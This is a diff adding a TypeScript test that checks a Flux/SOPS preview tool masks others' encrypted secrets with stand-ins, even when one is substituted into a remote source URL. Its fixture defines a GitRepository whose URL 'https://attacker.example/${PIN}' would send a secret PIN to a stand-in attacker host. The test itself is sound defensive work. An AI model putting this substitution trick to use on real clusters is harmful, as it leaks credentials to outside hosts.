@@ -7,6 +7,7 @@ import type { SideResult } from '../../../src/model/side-result.ts';
 import type { Opened } from '../../../src/orchestrator/decryption/sops-document.ts';
 import { StandIns } from '../../../src/orchestrator/decryption/stand-ins.ts';
 import { preview, renderTree } from '../../../src/preview/preview.ts';
+import type { Fetcher } from '../../../src/sources/fetcher.ts';
 import { sopsKey } from '../../support/encrypt-sops.ts';
 import { fc, runs } from '../../support/property.ts';
 
@@ -478,6 +479,47 @@ describe('who can write to the head', () => {
     // One Secret of a name is in the cluster, whatever others were to be: it is the same for all.
     expect(equal.filter((name) => !/^same\d+$/.test(name))).toEqual(['app', 'app shown']);
     expect([0, 100]).toContain(equal.filter((name) => /^same\d+$/.test(name)).length);
+  });
+
+  test('gets stand-ins of what others encrypted wherever it is moved to, also from another source', async () => {
+    const key = await sopsKey();
+    const theirs = await key.object(secret('app', 'hunter22-of-theirs'), ['stringData']);
+    // Values are bound to the keys above them, so that the field keeps its name.
+    const copied = { ...theirs, kind: 'ConfigMap', metadata: { name: 'copied', namespace: 'apps' } };
+    const remote = memoryTree({
+      'x/map.yaml': JSON.stringify(copied),
+      'x/cm.yaml':
+        'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: remote, namespace: apps}\ndata: {text: "${PIN:2:9}"}\n',
+    });
+    const asked: string[] = [];
+    const fetchers = new Map<string, Fetcher>([
+      [
+        'GitRepository',
+        {
+          fetch: async (request) => {
+            asked.push(JSON.stringify([request.spec, request.secret?.('app') ?? null]));
+            return await Promise.resolve({ artifact: { identity: 'r', revision: 'main@sha1:1', tree: remote } });
+          },
+        },
+      ],
+    ]);
+    const spec = 'decryption: {provider: sops}\n  postBuild: {substituteFrom: [{kind: Secret, name: app}]}\n';
+    const tree = memoryTree({
+      ...applied('app'),
+      'app/secret.yaml': JSON.stringify(theirs),
+      'source.yaml': kustomization('source', './source', `  ${spec}`),
+      'source/git.yaml':
+        'apiVersion: source.toolkit.fluxcd.io/v1\nkind: GitRepository\nmetadata: {name: other, namespace: apps}\nspec: {interval: 1h, url: "https://attacker.example/${PIN}", secretRef: {name: app}}\n',
+      'remote.yaml': kustomization('remote', './x', `  sourceRef: {kind: GitRepository, name: other}\n  ${spec}`),
+    });
+    const result = await renderTree({ tree, path: '' }, { ...options, ageKeys: [key.identity], fetchers });
+    const text = JSON.stringify(result);
+
+    expect(result.nodes.map(({ state }) => state).sort()).toEqual(['rendered', 'rendered', 'rendered', 'rendered']);
+    expect(asked.join()).toMatch(/attacker\.example\/secret--pin--[0-9a-f]{10}"/);
+    expect(text).toMatch(/"copied".*"stringData":\{"PIN":"secret--pin--/);
+    for (const where of [text, asked.join()]) expect(where).not.toMatch(/hunter22|nter22-of/);
+    expect(asked.every((one) => one.endsWith(',null]'))).toBe(true);
   });
 
   test('cannot write a stand-in that an earlier report showed, since the next one has others', async () => {
